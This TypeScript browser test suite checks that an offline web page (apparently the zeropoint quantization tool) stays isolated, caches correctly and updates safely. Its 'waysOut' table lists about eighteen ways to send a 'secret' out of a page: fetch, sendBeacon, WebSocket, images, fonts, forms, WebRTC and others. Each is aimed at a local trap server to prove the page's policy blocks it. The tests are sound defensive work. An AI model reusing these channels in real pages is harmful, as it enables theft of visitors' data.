// The page with the network off, on hosts that send no headers, from a file, and with someone inside who wants to get
// something out.

import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { cpSync, mkdirSync, readdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join, relative } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { gzipSync } from 'node:zlib';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import type { Browser as FirefoxBrowser } from 'puppeteer-core';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import { buildSingle } from '../../tools/build.mjs';
import { serveFolder, startChromium, startFirefox, temporaryFolder } from './browsers.ts';
import { patient } from './visitor.ts';

vi.setConfig({ testTimeout: 900_000, hookTimeout: 900_000 });

const site = fileURLToPath(new URL('../../dist-page', import.meta.url));
const path = '/some/folder/';

let chromium: Browser;
let firefox: FirefoxBrowser;

beforeAll(async () => {
  chromium = await startChromium();
  firefox = await startFirefox(temporaryFolder());
});

afterAll(async () => {
  await chromium?.close();
  await firefox?.close();
});

/** What both browsers do: code is text, because the test runner would change functions. */
interface Tab {
  goto(url: string): Promise<unknown>;
  reload(): Promise<unknown>;
  evaluate(code: string): Promise<unknown>;
  /** All that the page asked for. */
  requests: string[];
}

const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0).reverse()) await close();
});

async function chromiumTab(options = {}): Promise<Tab & { page: Page; context: BrowserContext }> {
  const context = await chromium.newContext(options);
  closing.push(() => context.close());
  const page = await context.newPage();
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  return {
    goto: (url) => page.goto(url),
    reload: () => page.reload(),
    evaluate: (code) => page.evaluate(code),
    requests,
    page,
    context,
  };
}

async function firefoxTab(): Promise<Tab> {
  const context = await firefox.createBrowserContext();
  closing.push(() => context.close());
  const page = await context.newPage();
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.setDefaultNavigationTimeout(120_000);
  return {
    goto: (url) => page.goto(url),
    reload: () => page.reload(),
    evaluate: (code) => page.evaluate(code),
    requests,
  };
}

const browsers: [string, () => Promise<Tab>][] = [
  ['Chromium', chromiumTab],
  ['Firefox', firefoxTab],
];

async function host(folder = site) {
  const served = await serveFolder(folder, path);
  closing.push(served.close);
  return served;
}

/** Other programs may need the processor too. A page that reloads answers nothing for a moment. */
const until = async (tab: Tab, code: string) => {
  try {
    await expect
      .poll(() => tab.evaluate(code).catch(() => undefined), { timeout: 280_000, interval: 200 })
      .toBeTruthy();
  } catch (error) {
    const seen = await tab.evaluate('document.body.innerText').catch(String);
    throw new Error(`this did not become true: ${code}\nThe page says:\n${seen}`, { cause: error });
  }
};

/** Clicks on the visible element of this selector that has this text, or else begins with it, as soon as there is one. */
const click = (tab: Tab, selector: string, text: string, part: 'all of it' | 'its begin' = 'its begin') =>
  until(
    tab,
    `(() => {
      const all = [...document.querySelectorAll(${JSON.stringify(selector)})].filter((each) => each.checkVisibility());
      const found = all.find(({ textContent }) => textContent.trim() === ${JSON.stringify(text)})
        ?? all.find(({ textContent }) => ${part === 'its begin'} && textContent.trim().startsWith(${JSON.stringify(text)}));
      found?.click();
      return found !== undefined;
    })()`,
  );

const press = (tab: Tab, text: string) => click(tab, 'button:not(:disabled)', text);

const textOf = (tab: Tab, selector: string) =>
  tab.evaluate(`document.querySelector(${JSON.stringify(selector)})?.textContent ?? ''`);

const noticeIs = (tab: Tab, kind: string, text: string) =>
  until(
    tab,
    `document.querySelector('[data-testid="notice-${kind}"]')?.textContent.includes(${JSON.stringify(text)})`,
  );

/** The notice at the edge goes after a while; the mark at the foot of the page stays. */
const worksOffline = (tab: Tab) =>
  until(tab, `document.querySelector('[data-testid="works-offline"]') !== null`);

/** A demo, through to its quantized model. */
async function quantizeDigits(tab: Tab): Promise<void> {
  await press(tab, 'Recognise digits');
  await click(tab, 'nav[aria-label="Steps"] a', 'Goal');
  // One way, where the default tries several.
  await click(tab, '.goal strong', '8-bit integers');
  // Not before the samples are there: until then, a button offers to do without them.
  await click(tab, 'button:not(:disabled)', 'Quantize', 'all of it');
  await until(tab, `document.querySelector('[data-testid="result"]') !== null`);
}

async function readText(tab: Tab): Promise<void> {
  await press(tab, 'Read text');
  await until(tab, `document.querySelector('[data-testid="reading-original"] .read-text')?.textContent`);
  await expect
    .poll(() => textOf(tab, '[data-testid="reading-original"] .read-text'), patient)
    .toMatch(/quick brown fox/);
}

const filesIn = (folder: string): string[] =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(folder, join(entry.parentPath, entry.name)));

/** What is kept, without the host's address and without the marks of versions. */
const keptFiles = async (tab: Tab, url: string) =>
  (
    (await tab.evaluate(`(async () => {
    const kept = [];
    for (const name of await caches.keys())
      for (const { url } of await (await caches.open(name)).keys()) kept.push(url);
    return kept;
  })()`)) as string[]
  ).map((address) => address.slice(url.length).replace(/\?.*/, ''));

describe.each(browsers)('in %s', (_, open) => {
  test('after the first visit everything works with the network off, from any folder of any host', async () => {
    const { url, requests, close } = await host();
    const tab = await open();
    await tab.goto(url);
    await worksOffline(tab);
    expect(await tab.evaluate('crossOriginIsolated')).toBe(true);
    expect(await tab.evaluate(`performance.getEntriesByType('navigation')[0].type`)).toBe('reload');
    expect(requests.filter((request) => request === `GET ${path}`)).toHaveLength(1);
    const own = ['.nojekyll', '_headers', 'sw.js'];
    expect((await keptFiles(tab, url)).sort()).toEqual(
      filesIn(site)
        .filter((name) => !own.includes(name))
        .sort(),
    );

    await close();
    await tab.reload();
    expect(await tab.evaluate('crossOriginIsolated')).toBe(true);
    await quantizeDigits(tab);
    await expect.poll(() => textOf(tab, '.engine'), patient).toMatch(/threads$/);
    await tab.goto(url);
    await readText(tab);
    await tab.goto(`${url}api/`);
    expect(await tab.evaluate('document.title')).toBe('zeropoint: API reference');
    expect(tab.requests.length).toBeGreaterThan(10);
    expect(
      tab.requests.filter((request) => !request.startsWith(url) && !/^(blob|data):/.test(request)),
    ).toEqual([]);
  });

  test('the page as one file works from a disk, with one thread, and says so', async () => {
    const file = pathToFileURL(await buildSingle()).href;
    const tab = await open();
    await tab.goto(file);
    await noticeIs(tab, 'threads', 'one thread');
    await quantizeDigits(tab);
    await expect.poll(() => textOf(tab, '.engine'), patient).toMatch(/one thread$/);
    await tab.goto(file);
    await readText(tab);
    expect(tab.requests.filter((request) => request !== file && !/^(blob|data):/.test(request))).toEqual([]);
    // It names what others made, models of its demos too.
    const licenses = await tab.evaluate(`(() => {
      const details = document.querySelector('details.licenses');
      details.querySelector('summary').click();
      return details.innerText;
    })()`);
    for (const part of ['preact ', 'cytoscape ', 'musl ', 'PP-OCRv4 ', 'UltraFace-RFB-320 ', 'Silero-VAD '])
      expect(licenses).toContain(part);
  });
});

/** A place that waits for anything: what came, in bytes. */
async function trap() {
  let bytes = 0;
  const streams = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', (data) => {
      bytes += data.byteLength;
      socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n');
    });
  });
  await new Promise<void>((resolve) => streams.listen(0, '127.0.0.1', resolve));
  const { port } = streams.address() as { port: number };
  const datagrams = createSocket('udp4');
  datagrams.on('message', (data) => {
    bytes += data.byteLength;
  });
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve));
  return {
    address: `127.0.0.1:${port}`,
    bytes: () => bytes,
    close: () => {
      streams.close();
      datagrams.close();
    },
  };
}

const element = (name: string, rest: string, where = 'body') =>
  `document.${where}.append(Object.assign(document.createElement('${name}'), { ${rest} }))`;

/** Ways to send something to \`http://\${to}/\`. */
const waysOut: Record<string, string> = {
  fetch: `fetch('http://' + to, { method: 'POST', mode: 'no-cors', body: 'secret' })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('POST', 'http://' + to); x.send('secret')`,
  WebSocket: `new WebSocket('ws://' + to)`,
  EventSource: `new EventSource('http://' + to)`,
  sendBeacon: `navigator.sendBeacon('http://' + to, 'secret')`,
  'fetch in a worker': `new Worker(URL.createObjectURL(new Blob(['fetch("http://' + to + '", { mode: "no-cors" })'])))`,
  image: `new Image().src = 'http://' + to`,
  'image of a style': `document.body.style.backgroundImage = 'url(http://' + to + ')'`,
  script: element('script', `src: 'http://' + to`),
  import: `import('http://' + to)`,
  style: element('link', `rel: 'stylesheet', href: 'http://' + to`),
  font: `new FontFace('x', 'url(http://' + to + ')').load()`,
  video: element('video', `src: 'http://' + to`),
  object: element('object', `data: 'http://' + to`),
  frame: element('iframe', `src: 'http://' + to`),
  form: `const form = document.createElement('form');
    form.action = 'http://' + to; form.method = 'POST'; document.body.append(form); form.submit()`,
  address: `setTimeout(() => { location.href = 'http://' + to; })`,
  WebRTC: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + to }] });
    c.createDataChannel('x'); c.setLocalDescription()`,
};

describe.each(browsers)('in %s, nothing gets out', (browser, open) => {
  /** Tries all ways out from the page at an address, and answers those where something arrived. */
  async function waysThatWork(tab: Tab, url: string): Promise<string[]> {
    const worked: string[] = [];
    for (const [name, code] of Object.entries(waysOut)) {
      await tab.goto(url);
      const there = await trap();
      await tab
        .evaluate(`(async () => { const to = '${there.address}'; ${code}; })().catch(() => {}); 0`)
        .catch(() => undefined); // the page may have gone
      for (let waited = 0; waited < 1500 && there.bytes() === 0; waited += 100)
        await new Promise((resolve) => setTimeout(resolve, 100));
      if (there.bytes() > 0) worked.push(name);
      there.close();
    }
    return worked;
  }

  test('by any of the ways that are open to other pages', async () => {
    const plain = temporaryFolder();
    writeFileSync(join(plain, 'index.html'), '<!doctype html><title>open</title><body></body>');
    // Firefox without a screen sends nothing by WebRTC, from any page.
    const ways = Object.keys(waysOut).filter((name) => browser !== 'Firefox' || name !== 'WebRTC');
    expect(await waysThatWork(await open(), (await host(plain)).url)).toEqual(ways);
    const { url } = await host();
    const tab = await open();
    await tab.goto(url);
    await worksOffline(tab);
    expect(await waysThatWork(tab, url)).toEqual([]);
  });

  test('nor to the host of the page itself', async () => {
    const { url, requests } = await host();
    const tab = await open();
    await tab.goto(url);
    await worksOffline(tab);
    expect(
      await tab.evaluate(`Promise.allSettled([
        fetch('./index.html', { method: 'POST', body: 'secret' }),
        fetch('./index.html?secret'),
        fetch('./unknown?secret'),
      ]).then((results) => results.map(({ status, value }) => value?.status ?? status))`),
    ).toEqual(['rejected', 200, 404]);
    expect(requests.filter((request) => !request.startsWith('GET') || request.includes('secret'))).toEqual(
      [],
    );
    expect(requests).toContain(`GET ${path}unknown`);
  });

  test('code that comes as text is not run', async () => {
    const tab = await open();
    await tab.goto((await host()).url);
    // After the one reload.
    await worksOffline(tab);
    // A moment later: what the test itself evaluates may evaluate.
    const run = (code: string) =>
      tab.evaluate(`new Promise((resolve) => setTimeout(async () => {
        try { await ${code}; resolve('ran'); } catch { resolve('refused'); }
      }, 50))`);
    expect(await run(`eval('1')`)).toBe('refused');
    expect(await run(`new Function('1')()`)).toBe('refused');
    await tab.evaluate(element('script', `textContent: 'globalThis.inlineRan = true'`));
    expect(await tab.evaluate(`globalThis.inlineRan`)).toBeFalsy();
    expect(await run(`WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))`)).toBe('ran');
  });
});

describe('in Firefox', () => {
  test('nobody is told of workers: one that starts another could wait for that for ever', async () => {
    const page = await firefox.newPage();
    closing.push(() => page.close());
    const told: string[] = [];
    page.on('workercreated', (worker) => told.push(worker.url()));
    await page.goto('data:text/html,');
    expect(
      await page.evaluate(`new Promise((resolve) => {
        new Worker('data:text/javascript,postMessage(1)').onmessage = ({ data }) => resolve(data);
      })`),
    ).toBe(1);
    expect(told).toEqual([]);
  });
});

describe('in Chromium', () => {
  test('a browser that isolates nothing is not asked twice: the page works with one thread, and says so', async () => {
    const { url } = await host();
    const tab = await chromiumTab();
    await tab.context.addInitScript(() =>
      Object.defineProperty(globalThis, 'crossOriginIsolated', { get: () => false }),
    );
    await tab.goto(url);
    await noticeIs(tab, 'threads', 'the browser did not isolate it');
    await worksOffline(tab); // and no reload until then
    expect(tab.requests.filter((request) => request === url)).toHaveLength(2);
  });

  test('a demo that is opened while its files are being kept waits for them, and asks for nothing twice', async () => {
    const served = await host();
    const model = /ch_PP-OCRv4_rec/;
    const isAsked = new Promise<void>((asked) => {
      served.before = async (url) => {
        if (!model.test(url)) return;
        asked();
        await new Promise((resolve) => setTimeout(resolve, 2000));
      };
    });
    const tab = await chromiumTab();
    await tab.goto(served.url);
    await isAsked;
    await readText(tab);
    await worksOffline(tab);
    expect(served.requests.filter((request) => model.test(request))).toHaveLength(1);
  });

  test('a demo whose files cannot be kept works', async () => {
    const { url } = await host();
    const tab = await chromiumTab();
    const devtools = await tab.context.newCDPSession(tab.page);
    const quota = { origin: new URL(url).origin, quotaSize: 8_000_000 };
    await devtools.send('Storage.overrideQuotaForOrigin', quota);
    await tab.goto(url);
    await noticeIs(tab, 'kept', 'Not all of this page could be kept for use offline');
    await readText(tab);
  });

  test('without a service worker the page works with one thread, and says so', async () => {
    const tab = await chromiumTab({ serviceWorkers: 'block' });
    await tab.goto((await host()).url);
    await noticeIs(tab, 'threads', 'one thread');
    await quantizeDigits(tab);
    await expect.poll(() => textOf(tab, '.engine'), patient).toMatch(/one thread$/);
  });

  test('who has begun is asked before the reload', async () => {
    const served = await host();
    let goOn = () => {};
    const begun = new Promise<void>((resolve) => {
      goOn = resolve;
    });
    served.before = async (pathname) => (pathname.endsWith('/sw.js') ? begun : undefined);
    const tab = await chromiumTab();
    await tab.goto(served.url);
    await tab.page.getByRole('heading', { level: 1 }).click();
    await tab.evaluate('globalThis.mark = 1');
    goOn();
    await noticeIs(tab, 'threads', 'after a reload');
    expect(await tab.evaluate('globalThis.mark')).toBe(1);
    await press(tab, 'Reload');
    await until(tab, 'crossOriginIsolated');
  });

  test('a first visit needs at most 250 KB before a model is chosen', () => {
    const html = readFileSync(join(site, 'index.html'), 'utf8');
    const named = [...html.matchAll(/(?:src|href)="\.\/([^"]+)"/g)].map(([, name]) => name as string);
    const sizes = ['index.html', ...named].map((name) => gzipSync(readFileSync(join(site, name))).byteLength);
    expect(named.some((name) => name.endsWith('.js'))).toBe(true);
    expect(sizes.reduce((sum, size) => sum + size)).toBeLessThan(250_000);
  });

  test('the page can be installed', async () => {
    const { url } = await host();
    const tab = await chromiumTab();
    await tab.goto(url);
    await worksOffline(tab);
    const devtools = await tab.context.newCDPSession(tab.page);
    const { installabilityErrors } = await devtools.send('Page.getInstallabilityErrors');
    // The tests' windows are private ones.
    expect(installabilityErrors.map(({ errorId }) => errorId)).toEqual(['in-incognito']);
    const { errors, data } = await devtools.send('Page.getAppManifest');
    expect(errors).toEqual([]);
    const { icons } = JSON.parse(data ?? '') as { icons: { src: string }[] };
    expect(icons.map(({ src }) => filesIn(site).includes(src))).toEqual(icons.map(() => true));
  });

  /** Another version of the page, which differs in its title and in its script. */
  function newVersion(): string {
    const folder = join(temporaryFolder(), 'site');
    mkdirSync(folder);
    cpSync(site, folder, { recursive: true });
    const edit = (name: string, change: (text: string) => string) => {
      const file = join(folder, name);
      writeFileSync(file, change(readFileSync(file, 'utf8')));
    };
    const hash = (name: string) => createHash('sha256').update(readFileSync(join(folder, name)));
    const integrityOf = (name: string) => `sha256-${hash(name).digest('base64')}`;
    const [script = ''] =
      /assets\/index-[\w-]+\.js/.exec(readFileSync(join(folder, 'index.html'), 'utf8')) ?? [];
    const before = [
      integrityOf(script),
      integrityOf('index.html'),
      hash('index.html').digest('hex').slice(0, 16),
    ];
    edit(script, (text) => `${text}\nglobalThis.version = 2;\n`);
    renameSync(join(folder, script), join(folder, 'assets/index-second.js'));
    edit('index.html', (text) =>
      text.replace(script, 'assets/index-second.js').replace(/<title>[^<]*/, '<title>second'),
    );
    const after = [
      integrityOf('assets/index-second.js'),
      integrityOf('index.html'),
      hash('index.html').digest('hex').slice(0, 16),
    ];
    edit('sw.js', (text) => {
      let changed = text.replaceAll(script, 'assets/index-second.js');
      for (const [i, old] of before.entries()) {
        expect(changed).toContain(old);
        changed = changed.replaceAll(old, after[i] as string);
      }
      return changed;
    });
    return folder;
  }

  test('a new version is announced, waits for the visitor, and is never mixed with the old one', async () => {
    const served = await host();
    const tab = await chromiumTab();
    await tab.goto(served.url);
    await worksOffline(tab);
    const first = await keptFiles(tab, served.url);
    const other = await tab.context.newPage();
    await other.goto(served.url);

    served.folder = newVersion();
    await tab.reload();
    await noticeIs(tab, 'update', 'A new version of this page is ready');
    const versionOf = (page: Page) => page.evaluate(() => [document.title, 'version' in globalThis]);
    const old = [expect.stringContaining('quantize'), false];
    expect(await versionOf(tab.page)).toEqual(old);
    await tab.reload(); // the old version goes on until the visitor says so
    expect(await versionOf(tab.page)).toEqual(old);

    // Another tab would be left without its files.
    await noticeIs(tab, 'update', 'A new version of this page is ready');
    await press(tab, 'Update');
    await noticeIs(tab, 'update', 'another tab shows the old one');
    expect(await versionOf(tab.page)).toEqual(old);
    await other.close();
    await press(tab, 'Update');
    await until(tab, `document.title === 'second' && globalThis.version === 2`);
    expect(await tab.evaluate('crossOriginIsolated')).toBe(true);

    const second = await keptFiles(tab, served.url);
    expect(second).toContain('assets/index-second.js');
    expect(second).toHaveLength(first.length);
    expect(first.filter((name) => !second.includes(name))).toHaveLength(1);
    await served.close();
    await tab.reload();
    expect(await versionOf(tab.page)).toEqual(['second', true]);
  });

  test('a file that is not of this version is not kept', async () => {
    const served = await host();
    const folder = join(temporaryFolder(), 'site');
    cpSync(site, folder, { recursive: true });
    const icon = join(folder, 'icon.svg');
    writeFileSync(icon, readFileSync(icon, 'utf8').replace('#1f6f5c', '#ff0000'));
    served.folder = folder;
    const tab = await chromiumTab();
    await tab.goto(served.url);
    await noticeIs(tab, 'kept', 'could not be kept for use offline');
    await noticeIs(tab, 'threads', 'one thread');
    expect(await keptFiles(tab, served.url)).not.toContain('icon.svg');
  });
});
